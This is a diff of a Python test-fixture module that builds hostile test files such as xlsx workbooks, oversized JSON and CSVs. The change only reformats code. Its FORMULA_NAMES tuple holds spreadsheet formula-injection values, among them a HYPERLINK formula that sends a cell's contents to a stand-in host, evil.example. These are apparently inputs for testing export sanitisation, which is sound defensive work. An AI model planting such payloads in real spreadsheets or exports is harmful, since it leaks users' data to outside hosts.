@@ -148,7 +148,9 @@ def xlsx_bytes(sheet_xml: str | bytes, *, chart_first: bool = False) -> bytes:
         )
     sheets += '<sheet name="Data" sheetId="1" r:id="rId1"/>'
     rels += f'<Relationship Id="rId1" Type="{_REL}/worksheet" Target="worksheets/sheet1.xml"/>'
-    workbook = f'<?xml version="1.0" encoding="UTF-8"?><workbook {_NS} {_RNS}><sheets>{sheets}</sheets></workbook>'
+    workbook = (
+        f'<?xml version="1.0" encoding="UTF-8"?><workbook {_NS} {_RNS}><sheets>{sheets}</sheets></workbook>'
+    )
     wb_rels = (
         '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/'
         f'package/2006/relationships">{rels}</Relationships>'
@@ -212,7 +214,14 @@ def huge_json(n_bytes: int = 40 << 20) -> bytes:
     return json.dumps(doc).encode()
 
 
-FORMULA_NAMES = ('=HYPERLINK("http://evil.example/?leak="&A1)', "+1+2", "-2+3", "@SUM(A1:A2)", "\tTAB", "\rCR")
+FORMULA_NAMES = (
+    '=HYPERLINK("http://evil.example/?leak="&A1)',
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\tTAB",
+    "\rCR",
+)
 
 
 def formula_csv(n: int = 30, seed: int = 0) -> bytes:
